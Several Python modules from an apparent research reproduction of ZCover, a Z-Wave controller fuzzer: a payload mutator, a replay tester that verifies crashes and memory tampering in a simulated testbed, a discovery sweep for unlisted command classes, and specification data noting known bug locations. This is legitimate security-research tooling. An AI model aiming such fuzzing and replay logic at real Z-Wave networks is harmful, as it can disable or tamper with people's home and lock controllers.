#: Together with the 25 defined command identifiers of the 45 controller
#: classes and Algorithm 1's 0x00 seed this exercises the 53 distinct CMD
#: values Table V reports.
INVALID_CMD_SWEEP: Tuple[int, ...] = tuple(range(0x18, 0x33))

#: How many enum values to expand exhaustively before sampling.
ENUM_EXPANSION_LIMIT = 8


@dataclass(frozen=True)
class TestCase:
    """One generated fuzzing input with its provenance."""

    payload: ApplicationPayload
    operator: MutationOperator
    position: int  # hierarchy position mutated (0 CMDCL, 1 CMD, 2+ PARAM)
    note: str = ""

    def encode(self) -> bytes:
        return self.payload.encode()


def _field_class(position: int) -> str:
    """The Figure 6 field class a hierarchy position belongs to."""
    if position == 0:
        return "cmdcl"
    if position == 1:
        return "cmd"
    return "param"


def _counted(cases: Iterator[TestCase]) -> Iterator[TestCase]:
    """Pass cases through, counting them by field class and operator."""
    for case in cases:
        obs.inc("mutation.generated")
        obs.inc(f"mutation.field.{_field_class(case.position)}")
        obs.inc(f"mutation.operator.{case.operator.value}")
        yield case


class PositionSensitiveMutator:
    """Generates :class:`TestCase` streams for one command class at a time."""

    def __init__(self, registry: SpecRegistry, rng: Optional[random.Random] = None):
        self._registry = registry
        self._rng = rng or random.Random(0)
        # Stages 0-3 are a pure function of (registry, cmdcl): the batch is
        # generated once per class and replayed on every requeue pass, so
        # long campaigns stop re-deriving thousands of identical payloads.
        # Only the rng tails run live — they are the sole rng consumers, so
        # draw order (and thus every seeded artefact) is unchanged.
        self._prefix_cache: Dict[int, Tuple[TestCase, ...]] = {}

    # -- public API ------------------------------------------------------------

    def generate(self, cmdcl: int) -> Iterator[TestCase]:
        """Yield test cases for *cmdcl*, highest-signal stages first."""
        return _counted(self._cases(cmdcl))

    def prefix_length(self, cmdcl: int) -> int:
        """How many deterministic (stage 0-3) cases *cmdcl* yields.

        A pure function of ``(registry, cmdcl)`` — the coverage
        scheduler's energy model reads it to keep assigning windows until
        every class's bug-bearing deterministic stages have drained.
        """
        prefix = self._prefix_cache.get(cmdcl)
        if prefix is None:
            prefix = tuple(self._deterministic_prefix(cmdcl))
            self._prefix_cache[cmdcl] = prefix
        return len(prefix)

    def _cases(self, cmdcl: int) -> Iterator[TestCase]:
        prefix = self._prefix_cache.get(cmdcl)
        if prefix is None:
            prefix = tuple(self._deterministic_prefix(cmdcl))
            self._prefix_cache[cmdcl] = prefix
        yield from prefix
        cls = self._registry.get(cmdcl)
        if cls is None or not cls.commands:
            yield from self._unknown_class_tail(cmdcl)
        else:
            yield from self._random_tail(cls)

    def _deterministic_prefix(self, cmdcl: int) -> Iterator[TestCase]:
        """Stages 0-3: everything before the endless seeded tail."""
        cls = self._registry.get(cmdcl)
        yield TestCase(
            ApplicationPayload(cmdcl, 0x00, b"\x00"),
            MutationOperator.SEED,
            1,
            "Algorithm 1 initial semi-valid packet",
        )
        if cls is None or not cls.commands:
            yield from self._unknown_class_sweep(cmdcl)
            return
        yield from self._valid_builds(cls)
        yield from self._interleaved_variants(cls)
        yield from self._invalid_cmd_sweep(cls)

    # -- stage 1: semantic valid builds --------------------------------------------

    def _valid_builds(self, cls: CommandClass) -> Iterator[TestCase]:
        for cmd in sorted(cls.commands, key=lambda c: c.id):
            payload = build_valid_payload(self._registry, cls.id, cmd.id)
            yield TestCase(
                payload,
                MutationOperator.RAND_VALID,
                1,
                f"valid build of {cmd.name}",
            )

    # -- stage 2: per-command variants, stage-major order --------------------------

    def _interleaved_variants(self, cls: CommandClass) -> Iterator[TestCase]:
        """All commands' variants, one mutation *stage* at a time.

        Stage-major ordering makes the highest-signal mutations of every
        command land early in a C_T window: all enum cycling first, then
        all range boundaries, then all illegal/interesting values, then all
        length boundaries — instead of exhausting one command before
        touching the next.
        """
        commands = sorted(cls.commands, key=lambda c: c.id)
        bases = {
            cmd.id: build_valid_payload(self._registry, cls.id, cmd.id)
            for cmd in commands
        }
        for stage in (
            self._stage_enums,
            self._stage_boundaries,
            self._stage_illegal,
            self._stage_lengths,
        ):
            for cmd in commands:
                yield from stage(bases[cmd.id], cmd)

    def _stage_enums(self, base: ApplicationPayload, cmd: Command) -> Iterator[TestCase]:
        """Semantic legal-value cycling: the highest-signal mutation —
        legal values steer stateful handlers down distinct code paths."""
        for param in cmd.params:
            if param.kind is ParamKind.ENUM:
                values = param.enum_values[:ENUM_EXPANSION_LIMIT]
            elif param.kind is ParamKind.NODE_ID:
                values = (1, 2, 232)
            else:
                continue
            for value in values:
                yield self._replace(base, param.position, value, MutationOperator.RAND_VALID, cmd)

    def _stage_boundaries(self, base: ApplicationPayload, cmd: Command) -> Iterator[TestCase]:
        """Boundary values and arithmetic neighbours for ranged params."""
        for param in cmd.params:
            if param.kind is not ParamKind.RANGE:
                continue
            for value in sorted({param.low, param.high, min(param.low + 1, 0xFF), max(param.high - 1, 0)}):
                yield self._replace(base, param.position, value, MutationOperator.ARITH, cmd)

    def _stage_illegal(self, base: ApplicationPayload, cmd: Command) -> Iterator[TestCase]:
        """Illegal domain values and classic interesting bytes."""
        for param in cmd.params:
            illegal = param.illegal_values()
            if illegal:
                picks = {illegal[0], illegal[-1], illegal[len(illegal) // 2]}
                for value in sorted(picks):
                    yield self._replace(base, param.position, value, MutationOperator.RAND_INVALID, cmd)
        for param in cmd.params:
            for value in INTERESTING_VALUES:
                if param.is_legal(value):
                    continue
                yield self._replace(base, param.position, value, MutationOperator.INTERESTING, cmd)

    def _stage_lengths(self, base: ApplicationPayload, cmd: Command) -> Iterator[TestCase]:
        """Length boundaries: truncations (minimum-length boundary) and
        trailing inserts (maximum-length boundary) — missing-validation
        bugs concentrate here."""
        for keep in range(len(cmd.params) - 1, -1, -1):
            yield TestCase(
                base.truncate_params(keep),
                MutationOperator.TRUNCATE,
                2 + keep,
                f"{cmd.name} truncated to {keep} parameter(s)",
            )
        extended = base
        for extra in (0x00, 0xFF):
            extended = extended.append_param(extra)
            yield TestCase(
                extended,
                MutationOperator.INSERT,
                2 + len(extended.params) - 1,
                f"{cmd.name} with trailing 0x{extra:02X}",
            )

    def _replace(
        self,
        base: ApplicationPayload,
        position: int,
        value: int,
        operator: MutationOperator,
        cmd: Command,
    ) -> TestCase:
        hierarchy_position = 2 + position
        return TestCase(
            base.replace_at(hierarchy_position, value),
            operator,
            hierarchy_position,
            f"{cmd.name} param[{position}] <- 0x{value:02X}",
        )

    # -- stage 3: undefined-command sweep -------------------------------------------------

    def _invalid_cmd_sweep(self, cls: CommandClass) -> Iterator[TestCase]:
        defined = set(cls.command_ids())
        for cmd_id in INVALID_CMD_SWEEP:
            if cmd_id in defined:
                continue
            yield TestCase(
                ApplicationPayload(cls.id, cmd_id, b"\x00\x00"),
                MutationOperator.RAND_INVALID,
                1,
                f"undefined command 0x{cmd_id:02X}",
            )

    # -- stage 4: endless random tail ---------------------------------------------------------

    def _random_tail(self, cls: CommandClass) -> Iterator[TestCase]:
        # Position-sensitive to the end: even the long-haul tail draws the
        # command byte from the defined identifiers or the bounded
        # undefined-command neighbourhood, never from uniform garbage.
        command_ids = cls.command_ids()
        while True:
            if command_ids and self._rng.random() < 0.8:
                cmd_id = self._rng.choice(command_ids)
            else:
                cmd_id = self._rng.choice(INVALID_CMD_SWEEP)
            count = self._rng.randrange(0, 5)
            params = bytes(self._rng.randrange(256) for _ in range(count))
            yield TestCase(
                ApplicationPayload(cls.id, cmd_id, params),
                MutationOperator.RANDOM,
                1,
                "random tail",
            )

    # -- unknown classes (validated but schema-less) -----------------------------------------------

    def _unknown_class_sweep(self, cmdcl: int) -> Iterator[TestCase]:
        """Fuzz a class with no registry schema: sweep commands blindly."""
        for cmd_id in range(0x01, 0x20):
            yield TestCase(
                ApplicationPayload(cmdcl, cmd_id, b""),
                MutationOperator.RAND_INVALID,
                1,
                "schema-less command sweep (bare)",
            )
            yield TestCase(
                ApplicationPayload(cmdcl, cmd_id, b"\x00\x00"),
                MutationOperator.RAND_INVALID,
                1,
                "schema-less command sweep (2-byte body)",
            )

    def _unknown_class_tail(self, cmdcl: int) -> Iterator[TestCase]:
        while True:
            cmd_id = self._rng.randrange(256)
            count = self._rng.randrange(0, 5)
            params = bytes(self._rng.randrange(256) for _ in range(count))
            yield TestCase(
                ApplicationPayload(cmdcl, cmd_id, params),
                MutationOperator.RANDOM,
                1,
                "schema-less random",
            )


class RandomMutator:
    """The ZCover-γ ablation: no properties, no positions, just bytes.

    "Selected CMDCLs, CMD, and PARAM values randomly without considering
    ZCover core features" (Section IV-D).
    """

    def __init__(self, rng: Optional[random.Random] = None):
        self._rng = rng or random.Random(0)

    def generate(self) -> Iterator[TestCase]:
        """Yield uniformly random (cmdcl, cmd, params) test cases forever."""
        return _counted(self._cases())

    def _cases(self) -> Iterator[TestCase]:
        while True:
            cmdcl = self._rng.randrange(256)
            cmd = self._rng.randrange(256)
            count = self._rng.randrange(0, 5)
            params = bytes(self._rng.randrange(256) for _ in range(count))
            yield TestCase(
                ApplicationPayload(cmdcl, cmd, params),
                MutationOperator.RANDOM,
                0,
                "random cmdcl/cmd/params",
            )
