"""The packet tester: replay logged payloads and verify findings.

The fifth ZCover module ("a packet tester for validating selected packets
saved in the log file") and the paper's manual crash-verification step
("Any delays, crashes, or unresponsiveness ... are manually verified due to
the closed-source nature of Z-Wave devices").

Each candidate payload is replayed against a **fresh, quiet** system under
test; the tester then measures the precise impact — which memory-tampering
category fired, which host program died, or how long the controller stayed
unresponsive.  The measured (CMDCL, effect, duration) triple is the
*verified signature* used to deduplicate findings into the unique
vulnerabilities of Table III.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional, Tuple

from ..simulator.testbed import build_sut
from ..simulator.vulnerabilities import EffectType, Vulnerability, ZERO_DAYS
from ..zwave.frame import ZWaveFrame
from .fingerprint import SCANNER_NODE_ID
from .monitor import LivenessMonitor, ObservedKind, SutObserver

#: ObservedKind → the ground-truth effect it corresponds to.
_KIND_TO_EFFECT = {
    ObservedKind.HANG: EffectType.CONTROLLER_HANG,
    ObservedKind.MEMORY_MODIFY: EffectType.MEMORY_MODIFY,
    ObservedKind.MEMORY_INSERT: EffectType.MEMORY_INSERT,
    ObservedKind.MEMORY_REMOVE: EffectType.MEMORY_REMOVE,
    ObservedKind.MEMORY_OVERWRITE: EffectType.MEMORY_OVERWRITE,
    ObservedKind.MEMORY_WAKEUP_CLEAR: EffectType.MEMORY_WAKEUP_CLEAR,
    ObservedKind.HOST_CRASH: EffectType.HOST_CRASH,
    ObservedKind.HOST_DOS: EffectType.HOST_DOS,
}

#: Verified signature: (CMDCL, observed kind, duration rounded to seconds
#: or None for persistent impact).
Signature = Tuple[int, str, Optional[int]]


@dataclass(frozen=True)
class VerifiedFinding:
    """One replay-confirmed vulnerability."""

    payload_hex: str
    cmdcl: int
    cmd: Optional[int]
    kind: ObservedKind
    duration_s: Optional[float]

    @property
    def payload(self) -> bytes:
        return bytes.fromhex(self.payload_hex)

    @property
    def signature(self) -> Signature:
        rounded = None if self.duration_s is None else int(round(self.duration_s))
        return (self.cmdcl, self.kind.value, rounded)

    @property
    def duration_label(self) -> str:
        if self.duration_s is None:
            return "Infinite"
        if self.duration_s >= 120:
            return f"{int(round(self.duration_s / 60))} min"
        return f"{int(round(self.duration_s))} sec"

    def match_table3(self) -> Optional[Vulnerability]:
        """Map this finding onto the canonical Table III entry.

        The surrogate for the paper's manual analysis: a zero-day matches
        when the command class and effect category agree and, for hangs,
        the measured outage is within a couple of seconds of the canonical
        duration.
        """
        effect = _KIND_TO_EFFECT[self.kind]
        candidates = [
            bug
            for bug in ZERO_DAYS
            if bug.cmdcl == self.cmdcl and bug.effect is effect
        ]
        if not candidates:
            return None
        if self.duration_s is None:
            return candidates[0]
        best = min(
            candidates,
            key=lambda bug: abs((bug.duration_s or 0.0) - self.duration_s),
        )
        if best.duration_s is not None and abs(best.duration_s - self.duration_s) <= 3.0:
            return best
        return None


class PacketTester:
    """Replays payloads from the bug log on pristine systems under test."""

    def __init__(
        self,
        device: str = "D1",
        seed: int = 0,
        max_hang_wait: float = 600.0,
        settle: float = 0.25,
    ):
        self._device = device
        self._seed = seed
        self._max_hang_wait = max_hang_wait
        self._settle = settle
        self.replays = 0

    def verify_payload(self, payload: bytes) -> Optional[VerifiedFinding]:
        """Replay *payload* on a fresh SUT and measure what it does."""
        self.replays += 1
        sut = build_sut(self._device, seed=self._seed, traffic=False)
        observer = SutObserver(sut)
        monitor = LivenessMonitor(
            sut.dongle, sut.clock, sut.profile.home_id, sut.controller.node_id
        )
        frame = ZWaveFrame(
            home_id=sut.profile.home_id,
            src=SCANNER_NODE_ID,
            dst=sut.controller.node_id,
            payload=payload,
        )
        attack_time = sut.clock.now
        sut.dongle.inject(frame)
        sut.clock.advance(self._settle)

        cmdcl = payload[0] if payload else -1
        cmd = payload[1] if len(payload) >= 2 else None

        memory_kind, _ = observer.check_memory()
        if memory_kind is not None:
            return VerifiedFinding(payload.hex(), cmdcl, cmd, memory_kind, None)
        host_kind = observer.check_host()
        if host_kind is not None:
            return VerifiedFinding(payload.hex(), cmdcl, cmd, host_kind, None)
        if not monitor.ping():
            recovery = monitor.ping_until_responsive(self._max_hang_wait)
            duration = (
                None
                if recovery is None
                else (sut.clock.now - attack_time - monitor.timeout)
            )
            return VerifiedFinding(
                payload.hex(), cmdcl, cmd, ObservedKind.HANG, duration
            )
        return None

    def verify_log(self, groups: List[Tuple[bytes, float, int]]) -> Dict[Signature, "VerifiedUnique"]:
        """Verify one payload per coarse group; dedup by signature.

        *groups* are (payload, first_seen_time, first_seen_packet) tuples.
        Returns unique findings keyed by verified signature, keeping the
        earliest discovery metadata.
        """
        unique: Dict[Signature, VerifiedUnique] = {}
        for payload, first_time, first_packet in groups:
            finding = self.verify_payload(payload)
            if finding is None:
                continue
            signature = finding.signature
            existing = unique.get(signature)
            if existing is None or first_time < existing.first_detection_time:
                unique[signature] = VerifiedUnique(
                    finding=finding,
                    first_detection_time=first_time,
                    first_detection_packet=first_packet,
                )
        return unique


@dataclass(frozen=True)
class VerifiedUnique:
    """A deduplicated finding with its earliest in-campaign discovery."""

    finding: VerifiedFinding
    first_detection_time: float
    first_detection_packet: int

    @property
    def bug(self) -> Optional[Vulnerability]:
        return self.finding.match_table3()

    @property
    def bug_id(self) -> Optional[int]:
        bug = self.bug
        return bug.bug_id if bug else None
