"""Phase 2 — unknown properties discovery (Section III-C).

Two techniques stack:

1. **Spec clustering** (:class:`SpecClusterer`): parse the public
   specification, keep the clusters a controller must implement
   (application, transport encapsulation, management, networking) and
   subtract the NIF-listed classes — yielding the *unlisted candidates*
   (26 on the 17-listing testbed controllers).
2. **Systematic validation testing** (:class:`ValidationTester`): probe
   CMDCL 0x00 up to the cluster's upper bound with harmless one-byte
   payloads and watch for application-level responses.  Confirms which
   candidates the firmware really processes and surfaces classes missing
   from the specification entirely — the proprietary 0x01/0x02.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional, Tuple

from ..obs import metrics as obs
from ..obs.tracing import span
from ..radio.clock import SimClock
from ..radio.transceiver import Transceiver
from ..zwave.application import ApplicationPayload
from ..zwave.frame import ZWaveFrame
from ..zwave.registry import SpecRegistry, load_public_registry
from .fingerprint import SCANNER_NODE_ID
from .properties import ControllerProperties


@dataclass(frozen=True)
class ClusterResult:
    """Spec-derived candidates for one fingerprinted controller."""

    controller_relevant: Tuple[int, ...]
    unlisted_candidates: Tuple[int, ...]

    @property
    def candidate_count(self) -> int:
        return len(self.unlisted_candidates)


class SpecClusterer:
    """Cluster the public specification for controller-relevant classes."""

    def __init__(self, registry: Optional[SpecRegistry] = None):
        self._registry = registry or load_public_registry()

    @property
    def registry(self) -> SpecRegistry:
        return self._registry

    def cluster(self, listed_cmdcls: Tuple[int, ...]) -> ClusterResult:
        """Spec classes a controller should support, minus the listed ones."""
        relevant = self._registry.controller_relevant_ids()
        listed = set(listed_cmdcls)
        unlisted = tuple(c for c in relevant if c not in listed)
        return ClusterResult(
            controller_relevant=relevant, unlisted_candidates=unlisted
        )


@dataclass(frozen=True)
class ProbeOutcome:
    """What one validation probe observed."""

    cmdcl: int
    responded: bool
    response_cmdcl: Optional[int] = None


@dataclass(frozen=True)
class ValidationResult:
    """Outcome of the systematic 0x00..max sweep."""

    probes: Tuple[ProbeOutcome, ...]
    confirmed_candidates: Tuple[int, ...]
    proprietary: Tuple[int, ...]

    @property
    def probe_count(self) -> int:
        return len(self.probes)


class ValidationTester:
    """Probe each command class and watch for successful processing.

    The probe is a one-byte payload carrying only the class identifier —
    deliberately command-less, so it can never reach a command handler (or
    a vulnerability) while still forcing the dispatcher to accept or ignore
    the class.
    """

    RESPONSE_TIMEOUT = 0.75

    def __init__(self, dongle: Transceiver, clock: SimClock):
        self._dongle = dongle
        self._clock = clock

    def probe(self, home_id: int, controller_node_id: int, cmdcl: int) -> ProbeOutcome:
        """Send one class probe and classify the reaction."""
        obs.inc("discovery.probes")
        self._dongle.clear_captures()
        frame = ZWaveFrame(
            home_id=home_id,
            src=SCANNER_NODE_ID,
            dst=controller_node_id,
            payload=ApplicationPayload(cmdcl).encode(),
        )
        self._dongle.inject(frame)
        self._clock.advance(self.RESPONSE_TIMEOUT)
        for capture in self._dongle.captures():
            received = capture.frame
            if received is None or received.src != controller_node_id:
                continue
            if received.is_ack or not received.payload:
                continue
            if received.dst != SCANNER_NODE_ID:
                continue
            return ProbeOutcome(cmdcl, True, received.payload[0])
        return ProbeOutcome(cmdcl, False)

    def sweep(
        self,
        home_id: int,
        controller_node_id: int,
        candidates: Tuple[int, ...],
        registry: SpecRegistry,
        start: int = 0x00,
        upper: Optional[int] = None,
    ) -> ValidationResult:
        """Evaluate classes from *start* to the candidate list's upper limit.

        Responding classes inside the candidate list become *confirmed*;
        responding classes absent from the public specification become
        *proprietary* discoveries (the paper's 0x01 and 0x02).
        """
        limit = upper if upper is not None else (max(candidates) if candidates else 0xFF)
        candidate_set = set(candidates)
        outcomes: List[ProbeOutcome] = []
        confirmed: List[int] = []
        proprietary: List[int] = []
        for cmdcl in range(start, limit + 1):
            outcome = self.probe(home_id, controller_node_id, cmdcl)
            outcomes.append(outcome)
            if not outcome.responded:
                continue
            if cmdcl in candidate_set:
                confirmed.append(cmdcl)
            elif cmdcl not in registry:
                proprietary.append(cmdcl)
        return ValidationResult(
            probes=tuple(outcomes),
            confirmed_candidates=tuple(confirmed),
            proprietary=tuple(proprietary),
        )


def discover_unknown_properties(
    dongle: Transceiver,
    clock: SimClock,
    properties: ControllerProperties,
    registry: Optional[SpecRegistry] = None,
) -> ControllerProperties:
    """Run phase 2 end-to-end, returning enriched controller properties."""
    registry = registry or load_public_registry()
    clusterer = SpecClusterer(registry)
    clustered = clusterer.cluster(properties.listed_cmdcls)
    tester = ValidationTester(dongle, clock)
    with span("discovery.sweep"):
        validated = tester.sweep(
            properties.home_id,
            properties.controller_node_id,
            clustered.unlisted_candidates,
            registry,
        )
    obs.inc("discovery.confirmed", len(validated.confirmed_candidates))
    obs.inc("discovery.proprietary", len(validated.proprietary))
    return ControllerProperties(
        home_id=properties.home_id,
        controller_node_id=properties.controller_node_id,
        observed_node_ids=properties.observed_node_ids,
        listed_cmdcls=properties.listed_cmdcls,
        unlisted_candidates=clustered.unlisted_candidates,
        validated_unknown=validated.confirmed_candidates,
        proprietary=validated.proprietary,
    )
