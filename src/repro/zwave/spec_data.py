"""Machine-readable Z-Wave specification data.

This module plays the role of the two sources the paper's discovery phase
parses (Section III-C1): the Z-Wave Alliance specification release (which
"lists 122 CMDCLs") and the public ``ZWave_custom_cmd_classes.xml`` command
class definition file.  It defines:

* all 122 public command classes, each with an identifier, a functional
  cluster, and its command list (detailed parameter schemas for the
  controller-relevant classes the evaluation exercises, canonical
  SET/GET/REPORT trios elsewhere), and
* the two proprietary classes (0x01 and 0x02) that are *absent* from the
  public specification and that ZCover uncovers through systematic
  validation testing.

The per-class command counts of the classes shown in Figure 5 reproduce the
paper's distribution (23, 15, 11, 10, 8, 7, 6, 6, 5, 4, 3, 2, 2, 1, 1, 0).
"""

from __future__ import annotations

from typing import Dict, List, Tuple

from .cmdclass import (
    Cluster,
    Command,
    CommandClass,
    CommandKind,
    Direction,
    Parameter,
    ParamKind,
    make_get_set_report,
)

CONTROLLING = Direction.CONTROLLING
SUPPORTING = Direction.SUPPORTING
BOTH = Direction.BOTH

GET = CommandKind.GET
SET = CommandKind.SET
REPORT = CommandKind.REPORT
NOTIFY = CommandKind.NOTIFICATION
OTHER = CommandKind.OTHER


def _p(name: str, position: int, **kwargs) -> Parameter:
    """Shorthand parameter constructor."""
    return Parameter(name, position, **kwargs)


def _opaques(*names: str) -> Tuple[Parameter, ...]:
    """Build a run of opaque parameters at consecutive positions."""
    return tuple(Parameter(name, i) for i, name in enumerate(names))


# ---------------------------------------------------------------------------
# Detailed controller-relevant classes
# ---------------------------------------------------------------------------


def _basic() -> CommandClass:
    """BASIC (0x20): the universal value interface every device maps."""
    return CommandClass(
        0x20,
        "BASIC",
        version=2,
        cluster=Cluster.APPLICATION,
        commands=(
            Command(0x01, "BASIC_SET", CONTROLLING, SET, (_p("value", 0),)),
            Command(0x02, "BASIC_GET", CONTROLLING, GET, ()),
            Command(0x03, "BASIC_REPORT", SUPPORTING, REPORT, (_p("value", 0),)),
        ),
    )


def _network_management_inclusion() -> CommandClass:
    """NETWORK_MANAGEMENT_INCLUSION (0x34): richest class (23 commands)."""
    node_id = _p("node_id", 1, kind=ParamKind.NODE_ID)
    seq = _p("seq_no", 0)
    return CommandClass(
        0x34,
        "NETWORK_MANAGEMENT_INCLUSION",
        version=4,
        cluster=Cluster.NETWORK,
        commands=(
            Command(0x01, "NODE_ADD", CONTROLLING, SET, (seq, _p("mode", 1, kind=ParamKind.ENUM, enum_values=(0x01, 0x05, 0x07)))),
            Command(0x02, "NODE_ADD_STATUS", SUPPORTING, REPORT, (seq, _p("status", 1))),
            Command(0x03, "NODE_REMOVE", CONTROLLING, SET, (seq, _p("mode", 1, kind=ParamKind.ENUM, enum_values=(0x01, 0x05)))),
            Command(0x04, "NODE_REMOVE_STATUS", SUPPORTING, REPORT, (seq, _p("status", 1))),
            Command(0x05, "FAILED_NODE_REMOVE", CONTROLLING, SET, (seq, node_id)),
            Command(0x06, "FAILED_NODE_REMOVE_STATUS", SUPPORTING, REPORT, (seq, _p("status", 1))),
            Command(0x07, "FAILED_NODE_REPLACE", CONTROLLING, SET, (seq, node_id)),
            Command(0x08, "FAILED_NODE_REPLACE_STATUS", SUPPORTING, REPORT, (seq, _p("status", 1))),
            Command(0x09, "NODE_NEIGHBOR_UPDATE_REQUEST", CONTROLLING, SET, (seq, node_id)),
            Command(0x0A, "NODE_NEIGHBOR_UPDATE_STATUS", SUPPORTING, REPORT, (seq, _p("status", 1))),
            Command(0x0B, "RETURN_ROUTE_ASSIGN", CONTROLLING, SET, (seq, node_id)),
            Command(0x0C, "RETURN_ROUTE_ASSIGN_COMPLETE", SUPPORTING, REPORT, (seq,)),
            Command(0x0D, "RETURN_ROUTE_DELETE", CONTROLLING, SET, (seq, node_id)),
            Command(0x0E, "RETURN_ROUTE_DELETE_COMPLETE", SUPPORTING, REPORT, (seq,)),
            Command(0x0F, "NODE_ADD_KEYS_REPORT", SUPPORTING, REPORT, (seq, _p("requested_keys", 1, kind=ParamKind.BITMASK))),
            Command(0x10, "NODE_ADD_KEYS_SET", CONTROLLING, SET, (seq, _p("granted_keys", 1, kind=ParamKind.BITMASK))),
            Command(0x11, "NODE_ADD_DSK_REPORT", SUPPORTING, REPORT, (seq, _p("input_dsk_length", 1, kind=ParamKind.RANGE, low=0, high=16))),
            Command(0x12, "NODE_ADD_DSK_SET", CONTROLLING, SET, (seq, _p("accept", 1, kind=ParamKind.ENUM, enum_values=(0x00, 0x80)))),
            Command(0x13, "SMART_START_JOIN_STARTED", SUPPORTING, NOTIFY, (seq,)),
            Command(0x14, "INCLUDED_NIF_REPORT", SUPPORTING, REPORT, (seq,)),
            Command(0x15, "EXTENDED_NODE_ADD_STATUS", SUPPORTING, REPORT, (seq, _p("status", 1))),
            Command(0x16, "S2_BOOTSTRAP_REQUEST", CONTROLLING, SET, (seq, node_id)),
            Command(0x17, "S2_BOOTSTRAP_STATUS", SUPPORTING, REPORT, (seq, _p("status", 1))),
        ),
    )


def _network_management_installation_maintenance() -> CommandClass:
    """NETWORK_MANAGEMENT_INSTALLATION_MAINTENANCE (0x67): 15 commands."""
    node_id = _p("node_id", 0, kind=ParamKind.NODE_ID)
    return CommandClass(
        0x67,
        "NETWORK_MANAGEMENT_INSTALLATION_MAINTENANCE",
        version=4,
        cluster=Cluster.NETWORK,
        commands=(
            Command(0x01, "PRIORITY_ROUTE_SET", CONTROLLING, SET, (node_id, _p("repeater_1", 1, kind=ParamKind.NODE_ID))),
            Command(0x02, "PRIORITY_ROUTE_GET", CONTROLLING, GET, (node_id,)),
            Command(0x03, "PRIORITY_ROUTE_REPORT", SUPPORTING, REPORT, (node_id, _p("route_type", 1))),
            Command(0x04, "STATISTICS_GET", CONTROLLING, GET, (node_id,)),
            Command(0x05, "STATISTICS_REPORT", SUPPORTING, REPORT, (node_id,)),
            Command(0x06, "STATISTICS_CLEAR", CONTROLLING, SET, ()),
            Command(0x07, "RSSI_GET", CONTROLLING, GET, ()),
            Command(0x08, "RSSI_REPORT", SUPPORTING, REPORT, (_p("rssi_ch0", 0), _p("rssi_ch1", 1), _p("rssi_ch2", 2))),
            Command(0x09, "S2_RESYNCHRONIZATION_EVENT", SUPPORTING, NOTIFY, (node_id, _p("reason", 1))),
            Command(0x0A, "MAINTENANCE_GET", CONTROLLING, GET, (node_id,)),
            Command(0x0B, "MAINTENANCE_REPORT", SUPPORTING, REPORT, (node_id,)),
            Command(0x0C, "NEIGHBOR_LIST_GET", CONTROLLING, GET, (node_id,)),
            Command(0x0D, "NEIGHBOR_LIST_REPORT", SUPPORTING, REPORT, (node_id,)),
            Command(0x0E, "ZWAVE_LR_CHANNEL_GET", CONTROLLING, GET, ()),
            Command(0x0F, "ZWAVE_LR_CHANNEL_REPORT", SUPPORTING, REPORT, (_p("channel", 0, kind=ParamKind.ENUM, enum_values=(0x01, 0x02)),)),
        ),
    )


def _user_code() -> CommandClass:
    """USER_CODE (0x63): 11 commands."""
    uid = _p("user_identifier", 0, kind=ParamKind.RANGE, low=0, high=0xFF)
    return CommandClass(
        0x63,
        "USER_CODE",
        version=2,
        cluster=Cluster.APPLICATION,
        commands=(
            Command(0x01, "USER_CODE_SET", CONTROLLING, SET, (uid, _p("status", 1, kind=ParamKind.ENUM, enum_values=(0x00, 0x01, 0x02)))),
            Command(0x02, "USER_CODE_GET", CONTROLLING, GET, (uid,)),
            Command(0x03, "USER_CODE_REPORT", SUPPORTING, REPORT, (uid, _p("status", 1))),
            Command(0x04, "USERS_NUMBER_GET", CONTROLLING, GET, ()),
            Command(0x05, "USERS_NUMBER_REPORT", SUPPORTING, REPORT, (_p("supported_users", 0),)),
            Command(0x06, "USER_CODE_CAPABILITIES_GET", CONTROLLING, GET, ()),
            Command(0x07, "USER_CODE_CAPABILITIES_REPORT", SUPPORTING, REPORT, ()),
            Command(0x08, "USER_CODE_KEYPAD_MODE_SET", CONTROLLING, SET, (_p("mode", 0, kind=ParamKind.ENUM, enum_values=(0x00, 0x01, 0x02, 0x03)),)),
            Command(0x09, "USER_CODE_KEYPAD_MODE_GET", CONTROLLING, GET, ()),
            Command(0x0A, "USER_CODE_KEYPAD_MODE_REPORT", SUPPORTING, REPORT, (_p("mode", 0),)),
            Command(0x0B, "USER_CODE_CHECKSUM_GET", CONTROLLING, GET, ()),
        ),
    )


def _security_2() -> CommandClass:
    """SECURITY_2 (0x9F): S2 encapsulation, 10 commands.

    Bug #06 of the paper lives at CMD 0x01 (``S2 NONCE_GET``): the Windows
    Z-Wave PC Controller program crashes on a malformed nonce request.
    """
    return CommandClass(
        0x9F,
        "SECURITY_2",
        version=1,
        cluster=Cluster.TRANSPORT_ENCAPSULATION,
        commands=(
            Command(0x01, "S2_NONCE_GET", BOTH, GET, (_p("seq_no", 0),)),
            Command(0x02, "S2_NONCE_REPORT", BOTH, REPORT, (_p("seq_no", 0), _p("flags", 1, kind=ParamKind.BITMASK))),
            Command(0x03, "S2_MESSAGE_ENCAPSULATION", BOTH, OTHER, (_p("seq_no", 0), _p("extensions", 1, kind=ParamKind.BITMASK))),
            Command(0x04, "KEX_GET", CONTROLLING, GET, ()),
            Command(0x05, "KEX_REPORT", SUPPORTING, REPORT, (_p("flags", 0, kind=ParamKind.BITMASK), _p("schemes", 1), _p("profiles", 2), _p("keys", 3, kind=ParamKind.BITMASK))),
            Command(0x06, "KEX_SET", CONTROLLING, SET, (_p("flags", 0, kind=ParamKind.BITMASK), _p("schemes", 1), _p("profiles", 2), _p("keys", 3, kind=ParamKind.BITMASK))),
            Command(0x07, "KEX_FAIL", BOTH, NOTIFY, (_p("fail_type", 0, kind=ParamKind.ENUM, enum_values=(0x01, 0x02, 0x03, 0x05, 0x06, 0x07, 0x08, 0x09, 0x0A)),)),
            Command(0x08, "PUBLIC_KEY_REPORT", BOTH, REPORT, (_p("including_node", 0, kind=ParamKind.ENUM, enum_values=(0x00, 0x01)),)),
            Command(0x09, "S2_TRANSFER_END", BOTH, OTHER, (_p("flags", 0, kind=ParamKind.BITMASK),)),
            Command(0x0A, "S2_COMMANDS_SUPPORTED_GET", CONTROLLING, GET, ()),
        ),
    )


def _security_s0() -> CommandClass:
    """SECURITY (0x98): the S0 encapsulation class, 8 commands."""
    return CommandClass(
        0x98,
        "SECURITY",
        version=1,
        cluster=Cluster.TRANSPORT_ENCAPSULATION,
        commands=(
            Command(0x02, "COMMANDS_SUPPORTED_GET", CONTROLLING, GET, ()),
